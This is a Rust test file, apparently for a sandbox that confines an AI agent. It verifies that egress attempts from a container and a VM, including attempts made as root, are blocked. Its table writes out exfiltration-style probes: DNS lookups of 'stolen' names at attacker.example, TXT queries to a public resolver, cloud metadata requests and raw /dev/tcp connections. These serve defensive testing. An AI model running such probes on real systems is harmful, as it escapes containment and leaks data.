//! Out of a machine: each attempt fails and nobody hears of it, with an allowed request beside it; by the agent in a
//! container and in a machine alike, and by the machine's own root.

use crate::{
    place::{AGENT_IMAGE, ALLOWED, Place},
    requests::{answers, requests},
    table::{End, Row, check, row, script, tcp, udp},
};
use anyhow::{Context, Result};
use bottle_tests::{
    bottle::{Run, eventually, report},
    lab::{Listeners, Target},
    running,
};
use std::{
    net::{IpAddr, Ipv4Addr, UdpSocket},
    process::Command,
    sync::{Arc, Mutex},
    thread,
};

const METADATA: Ipv4Addr = Ipv4Addr::new(169, 254, 169, 254);
const RESOLVER: Ipv4Addr = Ipv4Addr::new(8, 8, 8, 8);
/// smolvm's own gateway, which leads to the loopback of the machine outside.
const GATEWAY: Ipv4Addr = Ipv4Addr::new(100, 96, 0, 1);
/// Everything takes its time in an emulated machine: seconds for an attempt, and how many at once.
const PATIENCE: u32 = 60;
const AT_ONCE: usize = 3;
/// Asks a resolver for a record, by name and type, and says how it answers. Silence is an error.
const ASK: &str = r#"use IO::Socket::INET; my ($to, $type, @name) = @ARGV;
my $s = IO::Socket::INET->new(Proto=>"udp",PeerAddr=>"$to:53") or die "no way: $!\n";
print $s pack("nnnnnn",7,256,1,0,0,0).join("",map { pack("C/a*",$_) } @name)."\0".pack("nn",$type,1) or die "not sent: $!\n";
$SIG{ALRM} = sub { die "silence\n" }; alarm 3; defined(sysread($s, my $r, 512)) or die "no answer: $!\n";
my $code = ord(substr($r,3)) & 15; die "rcode $code\n" if $code; print "answered\n";"#;

/// A resolver of the machine outside, which should be asked nothing.
struct Resolver(Arc<Mutex<Vec<String>>>);

impl Resolver {
    fn new() -> Result<Self> {
        let socket = UdpSocket::bind("127.0.0.1:53").context("listen as the machine's resolver")?;
        let asked: Arc<Mutex<Vec<String>>> = Arc::default();
        let heard = asked.clone();
        thread::spawn(move || {
            let mut query = [0; 512];
            while let Ok((n, _)) = socket.recv_from(&mut query) {
                heard.lock().unwrap().push(String::from_utf8_lossy(&query[12.min(n)..n]).into_owned());
            }
        });
        Ok(Self(asked))
    }

    /// Questions about what an attempt has made up. Others of the machine may ask for theirs.
    fn asked(&self) -> Vec<String> {
        self.0.lock().unwrap().iter().filter(|question| question.contains("stolen")).cloned().collect()
    }
}

/// Somebody on a network of the bottle's sidecar, who should hear nothing.
struct Neighbour<'a> {
    place: &'a Place,
    name: String,
    address: IpAddr,
}

impl<'a> Neighbour<'a> {
    fn new(place: &'a Place, network: &str, sidecar: Ipv4Addr) -> Result<Self> {
        let [a, b, c, _] = sidecar.octets();
        let (name, address) = (format!("neighbour-{network:.12}"), Ipv4Addr::new(a, b, c, sidecar.octets()[3] + 7));
        let listen = "use IO::Socket::INET; $| = 1; my $l = IO::Socket::INET->new(LocalPort=>8080,Listen=>5,ReuseAddr=>1) or die; \
                      print \"listening\\n\"; while (my $c = $l->accept) { print \"heard\\n\" }";
        let address_word = address.to_string();
        let run = ["run", "-d", "--name", &name, "--network", network, "--ip", &address_word, AGENT_IMAGE];
        place.lab.docker(&[&run[..], &["perl", "-e", listen]].concat())?;
        eventually("the neighbour listens", || {
            place.lab.docker(&["logs", &name]).ok()?.contains("listening").then_some(())
        })?;
        Ok(Self { place, name, address: address.into() })
    }

    fn heard(&self) -> Result<String> {
        Ok(self.place.lab.docker(&["logs", &self.name])?.replace("listening\n", ""))
    }
}

impl Drop for Neighbour<'_> {
    fn drop(&mut self) {
        let _ = self.place.lab.docker(&["rm", "-f", &self.name]);
    }
}

/// The way to ask a resolver for a made up name.
fn ask(to: Ipv4Addr, kind: u16, name: &[&str]) -> String {
    format!("perl -e '{ASK}' {to} {kind} {}", name.join(" "))
}

/// Says something to the sidecar, and succeeds where there is an answer.
fn speak(port: u16) -> String {
    format!("exec 3<>/dev/tcp/egress/{port}; echo hello >&3; timeout 5 head -c 1 <&3 | grep -q .")
}

fn attempts(target: Ipv4Addr, listeners: &Listeners, neighbours: &[&Neighbour<'_>], gateway: Ipv4Addr) -> Vec<Row> {
    let denied = || End::Says("bottle_egress_denied".into());
    let port = listeners.port;
    let mut rows = vec![
        row("a host by name", "curl -s -m 60 https://forbidden.example/", denied()),
        row("an address by the proxy", format!("curl -s -m 60 -k https://{target}/"), denied()),
        row("the same with a granted Host", format!("curl -s -m 60 -H 'Host: {ALLOWED}' http://{target}/"), denied()),
        row("metadata by the proxy", format!("curl -s -m 60 http://{METADATA}/"), denied()),
        tcp("an address", target.into(), 443),
        tcp("an address", target.into(), 8000),
        udp("an address", target.into(), 53),
        tcp("the bridge's gateway", gateway.into(), port),
        udp("the bridge's gateway", gateway.into(), port),
        tcp("the machine's gateway", GATEWAY.into(), port),
        udp("the machine's gateway", GATEWAY.into(), port),
        row("the machine's gateway by name", format!("echo > /dev/tcp/host.smolvm.internal/{port}"), End::Fails),
        tcp("metadata", METADATA.into(), 80),
        tcp("metadata", METADATA.into(), port),
        tcp("the machine outside", Ipv4Addr::new(198, 51, 100, 1).into(), port),
        row("a crafted name", "getent ahosts stolen-1.attacker.example", End::Fails),
        row("a crafted name below the one that is let through", "getent ahosts stolen-2.no-name.invalid", End::Fails),
        row("a crafted name @8.8.8.8", ask(RESOLVER, 1, &["stolen-3", "example"]), End::Fails),
        row("TXT @8.8.8.8", ask(RESOLVER, 16, &["stolen-4", "example"]), End::Fails),
        row("TXT at the machine's gateway", ask(GATEWAY, 16, &["stolen-5", "example"]), End::Fails),
        // smolvm's gateway takes a connection before it knows whether anybody takes it there: nobody answers.
        row("another port of the sidecar", speak(9418), End::Fails),
        row("another port of the sidecar", speak(9100), End::Fails),
    ];
    rows.extend(
        neighbours.iter().flat_map(|n| [tcp("a neighbour", n.address, 8080), udp("a neighbour", n.address, 8080)]),
    );
    rows
}

/// The commands of attempts, and one request that must pass, as the machine's own root, to whom its gateway is given back.
fn as_root(place: &Place, machine: &str, sidecar: Ipv4Addr, rows: &[Row]) -> Result<Run> {
    let open = format!(
        "ip route add {GATEWAY}/32 dev eth0; ip route add default via {GATEWAY}; ip route; echo nameserver {GATEWAY} > /etc/resolv.conf;"
    );
    let beside = format!("echo > /dev/tcp/{sidecar}/9099");
    let mut command = Command::new(std::env::var("SMOLVM")?);
    command.args(["machine", "exec", "--name", machine, "--interactive", "--", "bash"]);
    command.env("HOME", place.home.path());
    running::run(&mut command, &format!("{{ {open} }} >&2\n{}", script(rows, &beside, PATIENCE, AT_ONCE)))
}

#[test]
fn one_table_gives_the_same_verdicts_in_a_container_and_in_a_machine() -> Result<()> {
    let (target, resolver, listeners) = (Target::new()?, Resolver::new()?, Listeners::new()?);
    let before = target.packets()?;
    let mut verdicts = vec![];
    for (backend, container, network) in [("docker", "sidecar", "egress"), ("smolmachines", "bundle", "bridge")] {
        let own;
        let place = if backend == "docker" {
            own = Place::new(backend)?;
            &own
        } else {
            Place::get()?
        };
        let bottle = place.start()?;
        let sidecar = bottle.address(container, network)?;
        let [a, b, c, d] = sidecar.octets();
        let gateway = Ipv4Addr::new(a, b, c, d - 1);
        let (id, elsewhere) = (bottle.network(network)?, format!("elsewhere-{backend}"));
        place.lab.docker(&["network", "create", "--subnet", "10.77.0.0/24", &elsewhere])?;
        let near = Neighbour::new(place, &id, sidecar)?;
        let far = Neighbour::new(place, &elsewhere, Ipv4Addr::new(10, 77, 0, 2))?;
        let rows = attempts(target.address, &listeners, &[&near, &far], gateway);
        let beside = format!("curl -sS -m 60 -o /dev/null https://{ALLOWED}/beside-{{}}");
        check(&rows, &bottle.sh(&script(&rows, &beside, PATIENCE, AT_ONCE))?).with_context(|| backend.to_owned())?;
        let arrived = |n: usize| place.standin.seen().iter().any(|seen| seen.path == format!("/beside-{n}"));
        assert!((0..rows.len()).all(arrived), "{backend}: an allowed request did not arrive");
        verdicts.push(answers(&bottle, &requests(target.address, ALLOWED))?);

        if backend == "smolmachines" {
            // Direct attempts alone: root has no proxy. What closes them now is outside the machine.
            let direct = |row: &&Row| row.target.is_some() || matches!(row.end, End::Fails);
            let rows: Vec<Row> = rows.iter().filter(direct).cloned().collect();
            let run = as_root(place, &format!("claude-bottle-{}", bottle.identity), sidecar, &rows)?;
            check(&rows, &run).context("as the machine's root")?;
            assert!(run.stderr.contains("default via 100.96.0.1"), "root did not get its gateway back: {run:?}");
            report(format!("{} attempts as the machine's root", rows.len()));
        }
        assert_eq!((near.heard()?, far.heard()?), (String::new(), String::new()), "{backend}");
        drop((near, far));
        place.lab.docker(&["network", "rm", &elsewhere])?;
        report(format!("{} attempts in {backend}", rows.len()));
        bottle.end()?;
    }
    assert_eq!((listeners.heard(), target.seen(), resolver.asked()), (vec![], vec![], vec![]));
    assert_eq!(target.packets()?, before, "packets reached {}", target.address);
    let (docker, machine) = (&verdicts[0], &verdicts[1]);
    for (one, other) in docker.iter().zip(machine) {
        assert_eq!(one, other);
    }
    assert!(docker.iter().any(|(_, answer)| answer.contains("bottle_egress_denied")), "{docker:?}");
    report(format!("{} requests, the same verdicts", docker.len()));
    Ok(())
}
